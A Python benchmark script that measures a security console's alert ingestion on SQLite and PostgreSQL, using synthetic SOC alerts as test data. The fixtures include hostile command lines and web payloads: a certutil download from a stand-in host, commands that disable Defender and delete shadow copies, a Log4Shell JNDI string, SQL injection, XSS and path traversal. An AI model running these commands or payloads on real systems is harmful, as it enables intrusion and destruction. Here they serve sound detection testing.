"""Benchmark of alert ingestion through the console's API: alerts/s and request latency, on
SQLite and on PostgreSQL.

    python bench/ingest.py [--alerts 100000] [--batch 500] [--clients 4]
                           [--db sqlite|postgresql|both]

For each database: a fresh one (a SQLite file in a temporary folder; PostgreSQL on loopback,
started with ``qorgan.testing.Postgres`` with fsync on), migrated, with one organisation, one
soc_analyst user and an API token (alerts:write, alerts:read). The real console runs as its own
process (uvicorn, one worker, access log off); ``--clients`` threads each with their own
keep-alive connection send the alerts in batches of ``--batch`` to ``POST /api/v1/alerts``,
timing every request. The alerts (distinct, in the documented shape, made with the built-in
rules, their classification and the same builder as ``qorgan hunt``) are built and serialised
before timing. A second pass sends the same alerts again: every one must come back as a
duplicate. Then the stored count and the audit trail are checked in the database.

CPU seconds of the server process, of PostgreSQL's processes and of this (client) process
are given per pass, to show where the time goes, with the machine's load average (other work
on a shared machine slows every figure). Figures go in ``bench/README.md``.
"""

from __future__ import annotations

import argparse
import glob
import importlib.util
import math
import os
import random
import shutil
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import orjson

SEED = 20261123
#: Event times fall in the 30 days before this moment.
END = datetime(2026, 11, 23, 12, 0, tzinfo=UTC)
SPAN = timedelta(days=30)
#: Share of correlation alerts among the alerts sent.
CORRELATION_SHARE = 0.03
#: How rules of each level weigh in the stream: noisy low-level rules fire most.
LEVEL_WEIGHT = {"informational": 6, "low": 8, "medium": 4, "high": 2, "critical": 1}
PASSWORD = "Bench-Ingestion-Passphrase-2026!"


# --------------------------------------------------------------------------- the alerts


SURNAMES = (
    "nurlanov", "seitkali", "abenova", "tokayeva", "zhumabekov", "kassymov", "omarova",
    "bekturov", "akhmetova", "iskakov", "sarsenbayev", "mukanova", "dzhaksybekov", "ermekova",
    "baimukhamedov", "karimova", "utegenov", "suleimenova", "yessenov", "tulegenova",
)  # fmt: skip
ORGS = ("AKIMAT", "MINFIN", "KAZBANK", "EGOV")
DOMAINS = ("akimat.gov.kz", "minfin.gov.kz", "kazbank.kz", "egov.kz")
AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "sqlmap/1.8.11#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:007142)",
    "curl/8.5.0",
    "python-requests/2.32.3",
    "Mozilla/5.0 zgrab/0.x",
)
PROBES = (
    ("/index.php", "id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--"),
    ("/cgi-bin/../../../../etc/passwd", None),
    ("/uploads/avatar.php", "cmd=cat+/etc/passwd"),
    ("/search", "q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
    ("/api/v2/login", "user=${jndi:ldap://198.51.100.23:1389/Exploit}"),
    ("/manager/html/upload", "org.apache.catalina.filters.CSRF_NONCE=8F2A9C"),
    ("/conn.aspx", "proxy=1&port=3389&ip=10.20.4.11"),
    ("/shell.php", "c=whoami%3Bid%3Buname+-a"),
    ("/nessus-check-4c0f.html", None),
    ("/", "page=..%2F..%2F..%2Fwindows%2Fwin.ini"),
)
COMMANDS = {
    "Defender Disabled": (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "powershell.exe -NoProfile -Command Set-MpPreference -DisableRealtimeMonitoring $true "
        "-DisableIOAVProtection $true",
    ),
    "Firewall": (r"C:\Windows\System32\netsh.exe", "netsh advfirewall set allprofiles state off"),
    "Recovery": (
        r"C:\Windows\System32\bcdedit.exe",
        "bcdedit.exe /set {default} recoveryenabled No",
    ),
    "Downloads A Payload": (
        r"C:\Windows\System32\certutil.exe",
        r"certutil.exe -urlcache -split -f http://203.0.113.45/upd.exe C:\Users\Public\upd.exe",
    ),
    "Office Application": (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAu"
        "AFcAZQBiAEMAbABpAGUAbgB0ACkA",
    ),
    "Outlook Attachment": (
        r"C:\Users\Public\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\Q7ZK3M1P"
        r"\invoice_2026-11.exe",
        r'"C:\Users\Public\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\Q7ZK3M1P'
        r'\invoice_2026-11.exe"',
    ),
    "HTML Application": (
        r"C:\Windows\System32\mshta.exe",
        r'"C:\Windows\System32\mshta.exe" "C:\Users\Public\Downloads\salary_review.hta"',
    ),
    "Shadow Copies": (
        r"C:\Windows\System32\vssadmin.exe",
        r"C:\Windows\System32\vssadmin.exe delete shadows /all /quiet",
    ),
}


class Generator:
    """Distinct alerts in the shape of ``qorgan hunt --format jsonl`` (docs/alerts.md)."""

    def __init__(self, seed: int = SEED) -> None:
        from qorgan.detection.classification import classify
        from qorgan.detection.hunt import Emission
        from qorgan.pipeline.hunts import default_plan

        self.random = random.Random(seed)
        plan = default_plan()
        emitted = Emission.of(plan)
        self.rules = [plan.rules[i].meta for i in sorted(emitted.rules)]
        self.weights = [LEVEL_WEIGHT.get(meta.level, 1) for meta in self.rules]
        self.classes = {meta.id: classify(meta).to_dict() for meta in self.rules}
        self.correlations = []
        for i in sorted(emitted.correlations):
            correlation = plan.correlations[i]
            base = plan.rules[correlation.rules[0]].meta
            found = classify(correlation.meta)
            if not found.complete:
                found = classify(base)
            self.correlations.append((correlation, base, found.to_dict()))
        r = self.random
        self.windows_hosts = [f"{o.lower()}-ws-{n:03d}" for o in ORGS for n in range(1, 61)] + [
            f"{o.lower()}-{kind}{n:02d}"
            for o in ORGS
            for kind in ("dc", "fs", "sql")
            for n in (1, 2)
        ]
        self.linux_hosts = [
            f"{name}-{n:02d}"
            for name in ("gov-web", "egov-api", "bank-app", "mail", "vpn-gw", "k8s-node")
            for n in range(1, 16)
        ]
        self.web_hosts = [f"egov-iis-{n:02d}" for n in range(1, 9)]
        self.users = [f"{chr(97 + r.randrange(26))}.{s}" for s in SURNAMES for _ in range(5)]
        self.attackers = [
            f"{net}.{n}" for net in ("203.0.113", "198.51.100") for n in range(1, 255)
        ]
        self.records: dict[str, int] = {}

    # -- helpers

    def ip(self) -> str:
        return self.random.choice(self.attackers)

    def internal(self) -> str:
        r = self.random
        return f"10.{r.randrange(1, 40)}.{r.randrange(256)}.{r.randrange(1, 255)}"

    def when(self) -> datetime:
        return END - timedelta(seconds=self.random.uniform(0, SPAN.total_seconds()))

    def guid(self) -> str:
        value = f"{self.random.getrandbits(128):032X}"
        return f"{{{value[:8]}-{value[8:12]}-{value[12:16]}-{value[16:20]}-{value[20:]}}}"

    def record(self, path: str) -> int:
        """The next record number in ``path``: (path, record) never repeats, so alerts are
        distinct."""
        self.records[path] = number = self.records.get(path, 0) + self.random.randrange(1, 40)
        return number

    # -- events per log source

    def windows(self, meta: Any, at: datetime) -> tuple[str, str, dict[str, Any], str]:
        r = self.random
        host = r.choice(self.windows_hosts)
        org = host.split("-")[0].upper()
        user = r.choice(self.users)
        source = dict(meta.logsource)
        stamp = at.isoformat(timespec="milliseconds").replace("+00:00", "Z")
        common = {
            "SystemTime": stamp,
            "Computer": f"{host}.{DOMAINS[ORGS.index(org)]}",
            "Level": 4,
            "Task": 0,
            "Keywords": "0x8000000000000000",
        }
        if source.get("category") in ("process_creation", "registry_set"):
            image, command = next(
                (value for key, value in COMMANDS.items() if key in meta.title),
                COMMANDS["Downloads A Payload"],
            )
            event: dict[str, Any] = {
                "Provider_Name": "Microsoft-Windows-Sysmon",
                "EventID": 1 if source["category"] == "process_creation" else 13,
                **common,
                "EventRecordID": 0,
                "Channel": "Microsoft-Windows-Sysmon/Operational",
                "UserID": "S-1-5-18",
                "RuleName": "-",
                "UtcTime": at.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
                "ProcessGuid": self.guid(),
                "ProcessId": r.randrange(1000, 30000),
            }
            if source["category"] == "registry_set":
                event |= {
                    "EventType": "SetValue",
                    "Image": r"C:\Windows\regedit.exe",
                    "TargetObject": r"HKLM\SOFTWARE\Policies\Microsoft\Windows Defender"
                    r"\DisableAntiSpyware",
                    "Details": "DWORD (0x00000001)",
                    "User": f"{org}\\{user}",
                }
            else:
                event |= {
                    "Image": image,
                    "FileVersion": "10.0.19041.3996 (WinBuild.160101.0800)",
                    "Description": image.rsplit("\\", 1)[-1],
                    "Product": "Microsoft® Windows® Operating System",
                    "Company": "Microsoft Corporation",
                    "OriginalFileName": image.rsplit("\\", 1)[-1],
                    "CommandLine": command.replace("Public", user),
                    "CurrentDirectory": f"C:\\Users\\{user}\\",
                    "User": f"{org}\\{user}",
                    "LogonGuid": self.guid(),
                    "LogonId": hex(r.getrandbits(32)),
                    "TerminalSessionId": r.randrange(1, 4),
                    "IntegrityLevel": r.choice(("Medium", "High")),
                    "Hashes": f"SHA256={r.getrandbits(256):064X},IMPHASH={r.getrandbits(128):032X}",
                    "ParentProcessGuid": self.guid(),
                    "ParentProcessId": r.randrange(1000, 30000),
                    "ParentImage": r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
                    "ParentCommandLine": '"C:\\Program Files\\Microsoft Office\\root\\Office16'
                    f'\\WINWORD.EXE" /n "C:\\Users\\{user}\\Downloads\\letter.docm"',
                    "ParentUser": f"{org}\\{user}",
                }
            path = f"/var/log/collect/{host}/sysmon.evtx"
        elif source.get("service") == "windefend":
            event = {
                "Provider_Name": "Microsoft-Windows-Windows Defender",
                "EventID": 1116,
                **common,
                "Channel": "Microsoft-Windows-Windows Defender/Operational",
                "Product Name": "Microsoft Defender Antivirus",
                "Product Version": "4.18.24090.11",
                "Detection ID": self.guid(),
                "Threat ID": r.randrange(2147480000, 2147490000),
                "Threat Name": r.choice(
                    (
                        "Trojan:Win32/Emotet.RPX!MTB",
                        "Ransom:Win32/LockBit.A",
                        "HackTool:Win64/Mimikatz",
                    )
                ),
                "Severity Name": "Severe",
                "Category Name": "Trojan",
                "Path": f"file:_C:\\Users\\{user}\\AppData\\Local\\Temp"
                f"\\{r.getrandbits(32):08x}.exe",
                "Detection Origin Name": "Local machine",
                "Detection User": f"{org}\\{user}",
                "Process Name": r"C:\Windows\explorer.exe",
                "Action Name": "Quarantine",
                "Engine Version": "AM: 1.1.24090.11, NIS: 1.1.24090.11",
            }
            path = f"/var/log/collect/{host}/defender.evtx"
        else:
            event = {
                "Provider_Name": "Microsoft-Windows-Security-Auditing",
                "EventID": r.choice((4625, 4624, 1102, 4719)),
                **common,
                "Channel": "Security",
                "SubjectUserSid": "S-1-5-18",
                "SubjectUserName": f"{host.upper()}$",
                "SubjectDomainName": org,
                "SubjectLogonId": hex(r.getrandbits(20)),
                "TargetUserSid": "S-1-0-0",
                "TargetUserName": user,
                "TargetDomainName": org,
                "Status": "0xc000006d",
                "SubStatus": "0xc000006a",
                "LogonType": r.choice((3, 9, 10)),
                "LogonProcessName": "NtLmSsp ",
                "AuthenticationPackageName": "NTLM",
                "WorkstationName": r.choice(("WIN-7F2KQ1", "kali", "DESKTOP-93HD2")),
                "IpAddress": self.ip(),
                "IpPort": r.randrange(1024, 65535),
                "ProcessName": "-",
                "KeyLength": 0,
            }
            path = f"/var/log/collect/{host}/security.evtx"
        return host, path, event, "evtx"

    def linux(self, meta: Any, at: datetime) -> tuple[str, str, dict[str, Any], str]:
        r = self.random
        host = r.choice(self.linux_hosts)
        service = dict(meta.logsource).get("service", "sshd")
        ip, user, port = self.ip(), r.choice(self.users), r.randrange(1024, 65535)
        pid = r.randrange(1000, 65000)
        messages = {
            "sshd": f"Failed password for invalid user {user} from {ip} port {port} ssh2",
            "sudo": f"{user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; "
            "COMMAND=/usr/sbin/setenforce 0",
            "pam": f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh "
            f"ruser= rhost={ip}  user={user}",
            "kernel": "TCP: request_sock_TCP: Possible SYN flooding on port 443. Sending cookies. "
            " Check SNMP counters.",
        }
        kind = next((k for k in messages if k in service), "sshd")
        event: dict[str, Any] = {
            "timestamp": at.isoformat(timespec="seconds").replace("+00:00", "Z"),
            "hostname": host,
            "program": "kernel" if kind == "kernel" else ("sudo" if kind == "sudo" else "sshd"),
            "pid": None if kind == "kernel" else pid,
            "facility": "authpriv",
            "severity": "notice",
            "msgid": None,
            "structured_data": None,
            "message": messages[kind],
            "service": service,
            "event_type": {"sshd": "failed_password", "pam": "auth_failure"}.get(kind, kind),
            "user": user,
            "invalid_user": kind == "sshd",
            "src_ip": ip,
            "src_port": port,
            "rhost": ip,
            "auth_method": "password",
            "preauth": False,
            "session_id": f"{r.getrandbits(48):012x}",
        }
        return host, f"/var/log/collect/{host}/auth.log", event, "syslog"

    def web(self, meta: Any, at: datetime) -> tuple[str | None, str, dict[str, Any], str]:
        r = self.random
        stem, query = r.choice(PROBES)
        iis = r.random() < 0.5
        host = r.choice(self.web_hosts) if iis else None
        event = {
            "c-ip": self.ip(),
            "c-username": None,
            "date": at.strftime("%Y-%m-%d"),
            "time": at.strftime("%H:%M:%S"),
            "s-computername": host,
            "s-ip": self.internal(),
            "s-port": 443,
            "cs-host": "portal.egov.kz",
            "cs-method": r.choice(("GET", "GET", "POST")),
            "cs-uri-stem": stem,
            "cs-uri-query": query,
            "cs-uri": stem + (f"?{query}" if query else ""),
            "cs-version": "HTTP/1.1",
            "sc-status": r.choice((200, 302, 403, 404, 500)),
            "sc-substatus": 0,
            "sc-win32-status": 0,
            "sc-bytes": r.randrange(200, 90000),
            "cs-bytes": r.randrange(300, 4000),
            "time-taken": r.randrange(1, 900),
            "cs-referer": r.choice((None, "https://portal.egov.kz/ru/services")),
            "cs-user-agent": r.choice(AGENTS),
            "cs-cookie": f"ASP.NET_SessionId={r.getrandbits(96):024x}",
        }
        name = f"{host}/u_ex{at:%y%m%d}.log" if host else "nginx/access.log"
        return host, f"/var/log/collect/{name}", event, "accesslog"

    def zeek(self, meta: Any, at: datetime) -> tuple[None, str, dict[str, Any], str]:
        r = self.random
        service = dict(meta.logsource).get("service", "conn")
        ports = {"dns": 53, "kerberos": 88, "ntlm": 445, "rdp": 3389, "smb_files": 445}
        ports |= {"smtp": 25, "ssh": 22}
        event: dict[str, Any] = {
            "ts": at.timestamp(),
            "uid": "C"
            + "".join(
                r.choices("ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz123456789", k=17)
            ),
            "id.orig_h": self.ip(),
            "id.orig_p": r.randrange(1024, 65535),
            "id.resp_h": self.internal(),
            "id.resp_p": ports.get(service, 443),
            "proto": "tcp",
        }
        extra: dict[str, dict[str, Any]] = {
            "dns": {"query": "egov.kz", "qtype_name": "AXFR", "rcode_name": "REFUSED"},
            "kerberos": {"request_type": "AS", "client": f"{r.choice(self.users)}/AKIMAT.GOV.KZ",
                         "service": "krbtgt/AKIMAT.GOV.KZ", "success": False,
                         "error_msg": "KDC_ERR_PREAUTH_FAILED"},
            "notice": {"note": r.choice(("Scan::Port_Scan", "SSH::Password_Guessing")),
                       "msg": f"{self.ip()} scanned at least 15 unique ports of host "
                       f"{self.internal()} in 0m3s", "sub": "local",
                       "actions": ["Notice::ACTION_LOG"], "suppress_for": 3600.0},
            "ntlm": {"username": r.choice(self.users), "hostname": "WIN-7F2KQ1",
                     "domainname": "AKIMAT", "server_nb_computer_name": "AKIMAT-FS01",
                     "success": False},
            "rdp": {"cookie": r.choice(("hello", "Administr", "mstshash=admin")),
                    "result": "encrypted", "security_protocol": "HYBRID", "client_name": "kali"},
            "smb_files": {"action": "SMB::FILE_OPEN", "path": r"\\AKIMAT-FS01\ADMIN$",
                          "name": f"__{r.getrandbits(40):x}.tmp", "size": 0},
            "smtp": {"helo": "mail.example.net", "mailfrom": "billing@example.net",
                     "rcptto": [f"{r.choice(self.users)}@akimat.gov.kz"],
                     "subject": "Invoice overdue", "trans_depth": 1},
            "ssh": {"version": 2, "auth_success": False, "auth_attempts": r.randrange(1, 9),
                    "client": r.choice(
                        ("SSH-2.0-libssh2_1.11.0", "SSH-2.0-Go", "SSH-2.0-OpenSSH_9.6")
                    ),
                    "server": "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.10", "direction": "INBOUND",
                    "cipher_alg": "chacha20-poly1305@openssh.com", "kex_alg": "curve25519-sha256"},
            "weird": {"name": "bad_TCP_checksum", "notice": False, "peer": "zeek-sensor-1"},
        }  # fmt: skip
        event |= extra.get(service, {})
        event |= {"service": service, "history": "ShADadFf", "sensor": "zeek-sensor-1"}
        return None, f"/var/log/zeek/{at:%Y-%m-%d}/{service}.log", event, "zeek"

    # -- alerts

    def alert(self) -> dict[str, Any]:
        from qorgan.detection.alerts import Alert

        r = self.random
        if self.correlations and r.random() < CORRELATION_SHARE:
            return self.correlation_alert()
        meta = r.choices(self.rules, self.weights)[0]
        source = dict(meta.logsource)
        at = self.when()
        if source.get("product") == "windows":
            host, path, event, form = self.windows(meta, at)
        elif source.get("product") == "linux":
            host, path, event, form = self.linux(meta, at)
        elif source.get("product") == "zeek":
            host, path, event, form = self.zeek(meta, at)
        else:
            host, path, event, form = self.web(meta, at)
        record = self.record(path)
        if "EventRecordID" in event:
            event["EventRecordID"] = record
        time_ = at.isoformat(timespec="milliseconds" if form == "evtx" else "seconds")
        return Alert(
            meta,
            time_.replace("+00:00", "Z"),
            host,
            path,
            record,
            form,
            event,
            classification=self.classes[meta.id],
        ).to_dict()

    def correlation_alert(self) -> dict[str, Any]:
        from qorgan.detection.alerts import Alert, iso

        r = self.random
        correlation, base, classes = r.choice(self.correlations)
        end = self.when()
        start = end - timedelta(seconds=r.uniform(5, correlation.timespan or 300))
        path = f"/var/log/collect/{r.choice(self.linux_hosts)}/auth.log"
        events = []
        for _ in range(r.randrange(5, 25)):
            moment = start + (end - start) * r.random()
            record = self.record(path)
            events.append(
                {"path": path, "record": record, "time": iso(moment.timestamp()), "rule": base.id}
            )
        group = {name: self.ip() for name in correlation.group_by}
        return Alert(
            correlation.meta,
            iso(end.timestamp()),
            None,
            path,
            events[-1]["record"],
            "correlation",
            group,
            correlation={
                "type": correlation.type,
                "value": float(len(events)),
                "start": iso(start.timestamp()),
                "end": iso(end.timestamp()),
                "events": events,
            },
            classification=classes,
        ).to_dict()


@dataclass
class Payload:
    batches: list[bytes]
    alerts: int
    event_bytes: int
    alert_bytes: int


def build(count: int, batch: int) -> Payload:
    """``count`` distinct alerts, serialised as JSON lists of ``batch`` alerts."""
    generator = Generator()
    batches: list[bytes] = []
    event_bytes = alert_bytes = 0
    for start in range(0, count, batch):
        alerts = [generator.alert() for _ in range(min(batch, count - start))]
        event_bytes += sum(len(orjson.dumps(a["event"])) for a in alerts)
        body = orjson.dumps(alerts)
        alert_bytes += len(body) - 1 - len(alerts)  # brackets and commas
        batches.append(body)
    return Payload(batches, count, event_bytes, alert_bytes)


# --------------------------------------------------------------------------- the console


@dataclass
class Database:
    name: str
    url: str
    postmaster: int | None = None  # PostgreSQL's server process, for its CPU time


def prepare(url: str) -> tuple[int, str]:
    """Migrate the database, add an organisation, a soc_analyst and an API token."""
    from qorgan.core import accounts
    from qorgan.core.db import make_engine, session_factory, unit_of_work
    from qorgan.core.models import OrganisationKind, Role
    from qorgan.core.settings import get_settings
    from qorgan.migrations import upgrade

    settings = get_settings(database_url=url)
    upgrade(settings)
    engine = make_engine(settings)
    try:
        with unit_of_work(session_factory(engine)) as session:
            organisation = accounts.create_organisation(
                session=session, actor="bench", name="Bench SOC", kind=OrganisationKind.soc
            )
            user = accounts.create_user(
                session=session,
                actor="bench",
                organisation_id=organisation.id,
                email="analyst@bench.example.kz",
                display_name="Bench Analyst",
                role=Role.soc_analyst,
                password=PASSWORD,
                language="en",
            )
            token = accounts.issue_token(
                session=session,
                user=user,
                name="bench",
                scopes=["alerts:write", "alerts:read"],
            )
            return organisation.id, token
    finally:
        engine.dispose()


@contextmanager
def console(url: str, workdir: Path) -> Iterator[tuple[str, subprocess.Popen[bytes]]]:
    """The console as a uvicorn process on a free loopback port, ready (``/readyz``)."""
    from qorgan.testing import free_port

    port = free_port()
    env = {k: v for k, v in os.environ.items() if not k.startswith("QORGAN_")}
    env |= {
        "QORGAN_DATABASE_URL": url,
        "QORGAN_VAR_DIR": str(workdir / "var"),
        "QORGAN_HUNT_ROOT": str(workdir / "logs"),
    }
    log = (workdir / "server.log").open("wb")
    command = [
        sys.executable, "-m", "uvicorn", "--factory", "qorgan.web.app:create_app",
        "--host", "127.0.0.1", "--port", str(port), "--workers", "1",
        "--no-access-log", "--log-level", "warning",
    ]  # fmt: skip
    server = subprocess.Popen(command, env=env, cwd=workdir, stdout=log, stderr=subprocess.STDOUT)
    base = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 60
        while True:
            if server.poll() is not None:
                raise RuntimeError(f"the console exited ({server.returncode}): {tail(workdir)}")
            try:
                if httpx.get(f"{base}/readyz", timeout=2).status_code == 200:
                    break
            except httpx.TransportError:
                pass
            if time.monotonic() > deadline:
                raise RuntimeError(f"the console was not ready within 60 s: {tail(workdir)}")
            time.sleep(0.1)
        yield base, server
    finally:
        server.terminate()
        try:
            server.wait(30)
        except subprocess.TimeoutExpired:
            server.kill()
            server.wait()
        log.close()


def tail(workdir: Path, lines: int = 20) -> str:
    path = workdir / "server.log"
    text = path.read_text(errors="replace") if path.exists() else ""
    return "\n".join(text.splitlines()[-lines:])


# --------------------------------------------------------------------------- CPU time

TICK = os.sysconf("SC_CLK_TCK")


def _stat(pid: int) -> list[str]:
    with open(f"/proc/{pid}/stat") as fh:
        return fh.read().rsplit(")", 1)[1].split()


def cpu_seconds(pid: int, children: bool = False) -> float:
    """User + system CPU of the process; with ``children``, also of its children (those that
    ended, and those still running), e.g. PostgreSQL's backends."""
    try:
        fields = _stat(pid)
    except OSError:
        return 0.0
    # Fields after the command: state is [0], so utime is [11], stime [12], cutime [13]...
    total = int(fields[11]) + int(fields[12])
    if children:
        total += int(fields[13]) + int(fields[14])
        for entry in os.listdir("/proc"):
            if not entry.isdigit():
                continue
            try:
                child = _stat(int(entry))
            except OSError:
                continue
            if int(child[1]) == pid:
                total += int(child[11]) + int(child[12])
    return total / TICK


# --------------------------------------------------------------------------- sending


@dataclass
class Pass:
    name: str
    alerts: int = 0
    seconds: float = 0.0
    latencies: list[float] = field(default_factory=list)
    created: int = 0
    duplicates: int = 0
    errors: list[str] = field(default_factory=list)
    cpu: dict[str, float] = field(default_factory=dict)
    load: float = 0.0  # the machine's 1-minute load average when the pass ended

    @property
    def rate(self) -> float:
        return self.alerts / self.seconds if self.seconds else 0.0

    def percentile(self, p: float) -> float:
        ordered = sorted(self.latencies)
        if not ordered:
            return math.nan
        return ordered[max(0, math.ceil(p / 100 * len(ordered)) - 1)] * 1000


def send(name: str, base: str, token: str, payload: Payload, clients: int) -> Pass:
    """Send every batch once, from ``clients`` threads; time each request and the whole."""
    result = Pass(name, alerts=payload.alerts)
    headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}
    lock = threading.Lock()
    pending = iter(range(len(payload.batches)))
    start = threading.Barrier(clients + 1)

    def work() -> None:
        latencies: list[float] = []
        created = duplicates = 0
        errors: list[str] = []
        with httpx.Client(base_url=base, headers=headers, timeout=300) as client:
            try:  # connect, and check the token, before the clock starts
                client.get("/api/v1/alerts", params={"limit": 1}).raise_for_status()
            except httpx.HTTPError as exc:
                errors.append(f"warm-up: {type(exc).__name__}: {exc}")
            start.wait()
            while not errors:
                with lock:
                    index = next(pending, None)
                if index is None:
                    break
                began = time.perf_counter()
                try:
                    response = client.post("/api/v1/alerts", content=payload.batches[index])
                except httpx.HTTPError as exc:
                    errors.append(f"batch {index}: {type(exc).__name__}: {exc}")
                    continue
                latencies.append(time.perf_counter() - began)
                if response.status_code != 200:
                    errors.append(f"batch {index}: {response.status_code} {response.text[:200]}")
                    continue
                answer = response.json()
                created += answer["created"]
                duplicates += answer["duplicates"]
        with lock:
            result.latencies.extend(latencies)
            result.created += created
            result.duplicates += duplicates
            result.errors.extend(errors)

    threads = [threading.Thread(target=work, daemon=True) for _ in range(clients)]
    for thread in threads:
        thread.start()
    start.wait()
    began = time.perf_counter()
    for thread in threads:
        thread.join()
    result.seconds = time.perf_counter() - began
    return result


def check(url: str, organisation_id: int) -> tuple[int, int, list[str]]:
    """(alerts stored for the organisation, audit entries, problems the audit check found)."""
    from qorgan.core import audit
    from qorgan.core.db import make_engine, session_factory
    from qorgan.core.settings import get_settings
    from qorgan.incidents.inbox import list_alerts

    engine = make_engine(get_settings(database_url=url))
    try:
        with session_factory(engine)() as session:
            _, stored = list_alerts(session=session, organisation_ids=[organisation_id], limit=0)
            problems = [f"{p.entry_id}: {p.problem}" for p in audit.verify(session=session)]
            last = audit.anchor(session=session)
            return stored, last.last_id if last else 0, problems
    finally:
        engine.dispose()


# --------------------------------------------------------------------------- running


@dataclass
class Outcome:
    database: str
    passes: list[Pass]
    stored: int
    audit_entries: int
    problems: list[str]


def run(database: Database, payload: Payload, clients: int, workdir: Path) -> Outcome:
    organisation_id, token = prepare(database.url)
    passes = []
    with console(database.url, workdir) as (base, server):
        for name in ("first", "repeat"):
            before = (
                cpu_seconds(server.pid),
                cpu_seconds(database.postmaster, children=True) if database.postmaster else 0.0,
                time.process_time(),
            )
            result = send(name, base, token, payload, clients)
            after = (
                cpu_seconds(server.pid),
                cpu_seconds(database.postmaster, children=True) if database.postmaster else 0.0,
                time.process_time(),
            )
            result.cpu = {
                "server": after[0] - before[0],
                "postgres": after[1] - before[1],
                "client": after[2] - before[2],
            }
            result.load = os.getloadavg()[0]
            passes.append(result)
            report(database.name, result)
            if result.errors:
                print(f"  {len(result.errors)} failed requests, e.g. {result.errors[0]}")
                print(f"  server log: {tail(workdir)}")
                break
    stored, entries, problems = check(database.url, organisation_id)
    return Outcome(database.name, passes, stored, entries, problems)


def report(database: str, result: Pass) -> None:
    cpu = result.cpu
    print(
        f"  {database} {result.name}: {result.seconds:.2f} s, {result.rate:,.0f} alerts/s, "
        f"p50 {result.percentile(50):.1f} ms, p99 {result.percentile(99):.1f} ms, "
        f"created {result.created:,}, duplicates {result.duplicates:,}; CPU s: server "
        f"{cpu['server']:.1f}, postgres {cpu['postgres']:.1f}, client {cpu['client']:.1f}; "
        f"load {result.load:.1f}",
        flush=True,
    )


def table(outcomes: list[Outcome]) -> str:
    head = (
        "database", "pass", "alerts", "requests", "seconds", "alerts/s", "p50 ms", "p95 ms",
        "p99 ms", "max ms", "created", "duplicates", "CPU s server/pg/client", "load",
    )  # fmt: skip
    rows = [head]
    for outcome in outcomes:
        for p in outcome.passes:
            rows.append(
                (
                    outcome.database,
                    p.name,
                    f"{p.alerts:,}",
                    f"{len(p.latencies):,}",
                    f"{p.seconds:.2f}",
                    f"{p.rate:,.0f}",
                    f"{p.percentile(50):.1f}",
                    f"{p.percentile(95):.1f}",
                    f"{p.percentile(99):.1f}",
                    f"{p.percentile(100):.1f}",
                    f"{p.created:,}",
                    f"{p.duplicates:,}",
                    f"{p.cpu['server']:.1f} / {p.cpu['postgres']:.1f} / {p.cpu['client']:.1f}",
                    f"{p.load:.1f}",
                )
            )
    widths = [max(len(row[i]) for row in rows) for i in range(len(head))]
    lines = []
    for n, row in enumerate(rows):
        cells = [
            cell.ljust(widths[i]) if i < 2 else cell.rjust(widths[i]) for i, cell in enumerate(row)
        ]
        lines.append("  ".join(cells).rstrip())
        if n == 0:
            lines.append("  ".join("-" * w for w in widths))
    return "\n".join(lines)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--alerts", type=int, default=100_000)
    parser.add_argument("--batch", type=int, default=500, help="alerts per request (max 5000)")
    parser.add_argument("--clients", type=int, default=4, help="concurrent client threads")
    parser.add_argument("--db", choices=("sqlite", "postgresql", "both"), default="both")
    args = parser.parse_args()
    if not 1 <= args.batch <= 5000 or args.alerts < 1 or args.clients < 1:
        parser.error("--batch must be 1..5000, --alerts and --clients at least 1")

    print(f"building {args.alerts:,} alerts ...", flush=True)
    began = time.perf_counter()
    payload = build(args.alerts, args.batch)
    print(
        f"  {len(payload.batches):,} requests of up to {args.batch:,} alerts; "
        f"alert {payload.alert_bytes / args.alerts:,.0f} B, "
        f"event {payload.event_bytes / args.alerts:,.0f} B (mean JSON); "
        f"{sum(map(len, payload.batches)) / 2**20:,.1f} MiB in all; "
        f"built in {time.perf_counter() - began:.1f} s"
    )
    print(
        f"  {os.cpu_count()} cores, shared by the client ({args.clients} threads) and the "
        f"server; load average {os.getloadavg()[0]:.1f}"
    )

    outcomes: list[Outcome] = []
    if args.db in ("sqlite", "both"):
        workdir = Path(tempfile.mkdtemp(prefix="qorgan-bench-ingest-"))
        try:
            database = Database("sqlite", f"sqlite:///{workdir / 'qorgan.db'}")
            print("sqlite: file in", workdir, flush=True)
            outcomes.append(run(database, payload, args.clients, workdir))
        finally:
            shutil.rmtree(workdir, ignore_errors=True)
    if args.db in ("postgresql", "both"):
        found = sorted(glob.glob("/usr/lib/postgresql/*/bin/initdb"))
        if not found:
            print("postgresql: skipped (no initdb: install Debian's postgresql package)")
        elif importlib.util.find_spec("psycopg") is None:
            print("postgresql: skipped (psycopg is not installed)")
        else:
            from qorgan.testing import Postgres

            server = Postgres(Path(found[-1]).parent)
            workdir = Path(tempfile.mkdtemp(prefix="qorgan-bench-ingest-"))
            try:
                server.start(fsync=True)
